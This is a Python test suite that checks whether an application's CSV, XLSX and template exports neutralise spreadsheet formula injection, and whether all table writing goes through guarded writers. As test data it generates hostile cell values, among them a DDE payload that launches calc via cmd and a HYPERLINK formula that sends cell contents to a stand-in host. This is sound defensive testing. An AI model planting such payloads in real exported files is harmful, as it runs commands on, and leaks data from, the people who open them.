"""Nothing that somebody typed is a formula in any file that leaves: every kind of table, every hostile cell in
every column, read by whatever parts cells; and whatever leaves as a table is written by what is tried here."""

import ast
import csv
import io
from itertools import chain, product
from pathlib import Path

import openpyxl
import pytest

from domain.exporting import ExportKind
from domain.papers.tables import open_table
from domain.papers.templates import write_table
from domain.ports import Store
from domain.registration import State
from domain.screen import TableFacts
from tests.statistics.roster import Candidate, add, stock
from tests.statistics.test_exporting import Office

ROOT = Path(__file__).resolve().parents[2]

BEGINS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
CALLS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"y")', "1+1", "SUM(1)*cmd", "WEBSERVICE(A1)")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "a;", "a\t", 'a";', "a|", "a\n", "a; ", "a,", '",', ';"')
HOSTILE = tuple(before + begin + call for before, begin, call in product(BEFORE, BEGINS, CALLS))
HEAD = ("Folio", "Nombre", "Correo")


def begins_formula(cell: str) -> bool:
    return cell.strip(" \t\r\n\"'\u00a0")[:1] in BEGINS and cell.lstrip(' "\t\u00a0\r\n')[:1] != "'"


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_of_a_csv_begins_a_formula(tmp_path: Path, separator: str) -> None:
    """Whatever the reader takes for the sign between cells, and whether it understands quotes or not."""
    path = tmp_path / "a.csv"
    with open_table("csv", path, "x", HEAD) as table:
        table.rows([row(one, column) for one in HOSTILE for column in range(3)])
    said = path.read_text("utf-8-sig")
    quoted = [cell for line in csv.reader(io.StringIO(said, newline=""), delimiter=separator) for cell in line]
    bare = [cell for line in said.splitlines() for cell in line.split(separator)]
    assert [cell for cell in quoted if begins_formula(cell)] == []
    if separator != ",":
        assert [cell for cell in bare if begins_formula(cell)] == []
    assert len(quoted) > len(HOSTILE)


def row(cell: str, column: int) -> tuple[str, str, str]:
    cells = ["x", "y", "z"]
    cells[column] = cell
    return cells[0], cells[1], cells[2]


def test_no_cell_of_a_spreadsheet_is_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    with open_table("xlsx", path, "=1", ("=1", "+1", "@x")) as table:
        table.rows([row(one, column) for one in HOSTILE for column in range(3)])
    check(path.read_bytes())


def test_no_cell_of_a_template_is_a_formula() -> None:
    rows = tuple(row(one, column) for one in HOSTILE for column in range(3))
    check(write_table(TableFacts("=1", ("=1", "+1", "@x"), rows, ("=1+1",))))


def check(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n"}  # words, or empty
    assert not [cell for cell in cells if cell.hyperlink or (cell.data_type == "n" and cell.value is not None)]
    assert len(cells) > 3 * len(HOSTILE)
    book.close()


# Whoever else wrote one would write past the guard. What reads is another matter (`domain/csv_table.py`).
WRITERS = {"domain/papers/tables.py", "domain/papers/templates.py"}
REHEARSING = {"bot/inspection/table_child.py"}  # a sample of its own, which it reads before it reads anybody's
WRITING = {"csv.writer", "csv.DictWriter", "DictWriter", "Workbook", "xlsxwriter.Workbook", "openpyxl.Workbook"}
# By which the library of spreadsheets takes words for something else.
GUESSING = {"write", "write_row", "write_column", "write_formula", "write_url", "write_rich_string"}


def called_in(path: Path) -> set[str]:
    """Names as they are called: `a`, or `a.b`."""
    calls = (node.func for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, ast.Call))
    return {ast.unparse(call) for call in calls if isinstance(call, ast.Name | ast.Attribute)}


def test_every_table_goes_through_the_guarded_writers() -> None:
    """By calls, wherever they stand; who imports the libraries is a contract of the imports as well."""
    packages = ("bot", "handlers", "storage", "scheduler", "domain", "emulator")
    files = [path for package in packages for path in (ROOT / package).rglob("*.py")]
    writing = {path.relative_to(ROOT).as_posix() for path in files if called_in(path) & WRITING}
    assert writing == WRITERS | REHEARSING
    for name in WRITERS:
        assert called_in(ROOT / name).isdisjoint({f"sheet.{method}" for method in GUESSING}), name
        assert "sheet.write_string" in called_in(ROOT / name)


# Of somebody whose every answer is a formula.
ATTACKER = Candidate(
    1, "F-1", 7, sent=(1,), state=State.ACCEPTED, office="?=cmd",
    cells=(
        ("given_names", "=1+1"), ("first_surname", "=SUM(1)"), ("second_surname", "+1"), ("position", "a;=1"),
        ("email", "@SUM(1)"), ("phone", "-1"), ("curp", "\t=1"),
    ),
)  # fmt: skip


@pytest.mark.parametrize("kind", list(ExportKind))
async def test_no_cell_of_an_export_is_a_formula(store: Store, tmp_path: Path, kind: ExportKind) -> None:
    """Through everything between the database and the file."""
    await stock(store)
    await add(store, ATTACKER)
    await Office(store, tmp_path).export(kind, is_masked=False)
    content = b"".join(path.read_bytes() for path in Path(tmp_path).iterdir() if path.suffix == f".{kind}")  # noqa: ASYNC240 -- a small file of our own
    if kind is ExportKind.CSV:
        cells = list(chain(*csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))))
        assert [cell for cell in cells if begins_formula(cell)] == []
        assert sum(cell.startswith("'") for cell in cells) >= 6
        return
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None]
    book.close()
    assert {(cell.data_type, bool(cell.hyperlink)) for cell in found} == {("s", False)}
    assert sum(str(cell.value).startswith(BEGINS) for cell in found) >= 5
